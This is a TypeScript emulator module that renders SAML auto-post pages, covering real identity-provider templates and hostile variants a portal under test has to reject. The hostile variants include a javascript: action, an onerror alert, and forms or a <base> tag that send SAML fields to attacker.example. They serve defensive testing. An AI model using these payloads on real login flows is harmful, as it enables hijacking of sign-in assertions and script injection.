import { escapeHtml } from '../http/html.js';

/**
 * The SAML auto-post pages the emulator can serve at GET oauth2/v1/idp (chosen per call with a
 * fault's htmlVariant; README, 'Identity-provider hand-back contract').
 *
 * - The real products' shapes, which the portal must accept: their scripts and handlers submit
 *   the form in a browser that renders the page; the portal never runs them and posts a form it
 *   builds from the SAML fields. Written after the shapes of the products' own templates.
 * - Hostile shapes, which the portal must refuse: anything that changes where or what it posts.
 */

export const REAL_PAGE_VARIANTS = ['shibboleth', 'adfs', 'keycloak', 'simplesamlphp', 'base-href'] as const;
export const HOSTILE_PAGE_VARIANTS = [
  'javascript-action',
  'foreign-action',
  'data-action',
  'foreign-base',
  'get-method',
  'two-forms',
  'extra-field',
] as const;
/** Shapes from before real pages were accepted: an inline script, and onload/onerror handlers. */
export const TOLERATED_PAGE_VARIANTS = ['script', 'handler'] as const;

export type PageVariant =
  | (typeof REAL_PAGE_VARIANTS)[number]
  | (typeof HOSTILE_PAGE_VARIANTS)[number]
  | (typeof TOLERATED_PAGE_VARIANTS)[number];

export interface PostPageInput {
  /** Where the IdP's form posts (the emulator's IdP page). */
  action: string;
  samlRequest: string;
  relayState: string;
}

/** OWASP ESAPI's encodeForHTMLAttribute (used by OpenSAML): all but [A-Za-z0-9,.-_] as hex entities. */
function esapiAttribute(value: string): string {
  return value.replace(/[^A-Za-z0-9,.\-_]/g, (c) => `&#x${(c.codePointAt(0) ?? 0).toString(16)};`);
}

const e = escapeHtml;

/** Shibboleth IdP (OpenSAML's POST binding template): body onload, <noscript> note and button. */
function shibboleth({ action, samlRequest, relayState }: PostPageInput): string {
  return `<!DOCTYPE html>
<html>
    <head>
        <meta charset="utf-8" />
    </head>
    <body onload="document.forms[0].submit()">
        <noscript>
            <p>
                <strong>Note:</strong> Since your browser does not support JavaScript,
                you must press the Continue button once to proceed.
            </p>
        </noscript>

        <form action="${esapiAttribute(action)}" method="post">
            <div>
                <input type="hidden" name="RelayState" value="${esapiAttribute(relayState)}"/>

                <input type="hidden" name="SAMLRequest" value="${samlRequest}"/>

            </div>
            <noscript>
                <div>
                    <input type="submit" value="Continue"/>
                </div>
            </noscript>
        </form>

    </body>
</html>`;
}

/** AD FS: 'Working...', a named form, <noscript> button, an inline script that submits. */
function adfs({ action, samlRequest, relayState }: PostPageInput): string {
  return (
    `<html><head><title>Working...</title></head><body>` +
    `<form method="POST" name="hiddenform" action="${e(action)}">` +
    `<input type="hidden" name="SAMLRequest" value="${samlRequest}" />` +
    `<input type="hidden" name="RelayState" value="${e(relayState)}" />` +
    `<noscript><p>Script is disabled. Click Submit to continue.</p><input type="submit" value="Submit" /></noscript>` +
    `</form><script language="javascript">window.setTimeout('document.forms[0].submit()', 0);</script>` +
    `</body></html>`
  );
}

/** Keycloak's SAML binding builder (identity brokering): upper-case tags, BODY Onload. */
function keycloak({ action, samlRequest, relayState }: PostPageInput): string {
  return (
    `<HTML><HEAD><TITLE>Authentication Redirect</TITLE></HEAD>` +
    `<BODY Onload="document.forms[0].submit()">` +
    `<FORM METHOD="POST" ACTION="${action}">` +
    `<INPUT TYPE="HIDDEN" NAME="SAMLRequest" VALUE="${samlRequest}"/>` +
    `<INPUT TYPE="HIDDEN" NAME="RelayState" VALUE="${e(relayState)}"/>` +
    `<NOSCRIPT><P>JavaScript is disabled. We strongly recommend to enable it. Click the button below to continue.</P>` +
    `<INPUT TYPE="SUBMIT" VALUE="CONTINUE" /></NOSCRIPT></FORM></BODY></HTML>`
  );
}

/** SimpleSAMLphp 2: a <meta> CSP, stylesheet, external post.js, an unnamed submit input. */
function simpleSamlPhp({ action, samlRequest, relayState }: PostPageInput): string {
  return `<!DOCTYPE html>
<html>
  <head>
    <meta charset="utf-8">
    <meta http-equiv="X-UA-Compatible" content="IE=Edge">
    <meta http-equiv="Content-Type" content="text/html; charset=utf-8">
    <meta http-equiv="Content-Security-Policy" content="default-src 'self'">
    <link rel="icon" href="/simplesaml/assets/base/icons/favicon.ico">
    <title>Sending message</title>
    <link rel="stylesheet" href="/simplesaml/assets/base/css/post.css">
    <script src="/simplesaml/assets/base/js/post.js"></script>
  </head>
  <body>
    <form method="post" action="${e(action)}">

      <input type="submit" id="postLoginSubmitButton">

      <input type="hidden" name="SAMLRequest" value="${samlRequest}">

      <input type="hidden" name="RelayState" value="${e(relayState)}">

      <noscript>
        <h2>Warning</h2>
        <p>Since your browser does not support Javascript, you must press the button below to proceed.</p>
        <button type="submit">Yes, continue</button>
      </noscript>
    </form>
  </body>
</html>`;
}

/** A branded page: <base href> with a relative action, a <style> block, a <meta> refresh, a script. */
function baseHref({ action, samlRequest, relayState }: PostPageInput): string {
  const slash = action.lastIndexOf('/');
  return `<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <base href="${e(action.slice(0, slash + 1))}">
  <meta http-equiv="refresh" content="10">
  <title>Signing you in</title>
  <style>body { font-family: sans-serif; } .spinner { margin: 2em auto; }</style>
</head>
<body>
  <div class="spinner" role="status">Signing you in…</div>
  <form id="saml" method="post" action="${e(action.slice(slash + 1))}">
    <input type="hidden" name="SAMLRequest" value="${samlRequest}">
    <input type="hidden" name="RelayState" value="${e(relayState)}">
    <button type="submit">Continue</button>
  </form>
  <script>document.getElementById('saml').submit();</script>
</body>
</html>`;
}

const inputsOf = ({ samlRequest, relayState }: PostPageInput) =>
  `<input type="hidden" name="SAMLRequest" value="${e(samlRequest)}">` +
  `<input type="hidden" name="RelayState" value="${e(relayState)}">`;

/** The emulator's plain page: one form, the two fields, a <noscript> button. */
export function plainPage(input: PostPageInput): string {
  return `<html><body><form method="POST" action="${e(input.action)}">${inputsOf(input)}<noscript><button type="submit">Continue</button></noscript></form></body></html>`;
}

const hostileForm = (attributes: string, input: PostPageInput, extra = '') =>
  `<html><body><form ${attributes}>${inputsOf(input)}${extra}</form></body></html>`;

const PAGES: Record<PageVariant, (input: PostPageInput) => string> = {
  shibboleth,
  adfs,
  keycloak,
  simplesamlphp: simpleSamlPhp,
  'base-href': baseHref,
  script: (input) =>
    `<html><body><form method="POST" action="${e(input.action)}">${inputsOf(input)}</form><script>document.forms[0].submit();</script></body></html>`,
  handler: (input) =>
    `<html><body onload="document.forms[0].submit()"><form method="POST" action="${e(input.action)}">${inputsOf(input)}<img src="x" onerror="alert(1)"></form></body></html>`,
  'javascript-action': (input) =>
    hostileForm('method="POST" action="javascript:alert(document.domain)"', input),
  'foreign-action': (input) => hostileForm('method="POST" action="https://attacker.example/collect"', input),
  'data-action': (input) => hostileForm('method="POST" action="data:text/html,collect"', input),
  'foreign-base': (input) =>
    `<html><head><base href="https://attacker.example/"></head><body><form method="POST" action="collect">${inputsOf(input)}</form></body></html>`,
  'get-method': (input) => hostileForm(`method="GET" action="${e(input.action)}"`, input),
  'two-forms': (input) =>
    hostileForm(
      `method="POST" action="${e(input.action)}"`,
      input,
      `</form><form method="POST" action="${e(input.action)}">${inputsOf(input)}`,
    ),
  'extra-field': (input) =>
    hostileForm(
      `method="POST" action="${e(input.action)}"`,
      input,
      '<input type="hidden" name="returnTo" value="https://attacker.example/">',
    ),
};

export function postPage(input: PostPageInput, variant?: PageVariant): string {
  return variant ? PAGES[variant](input) : plainPage(input);
}
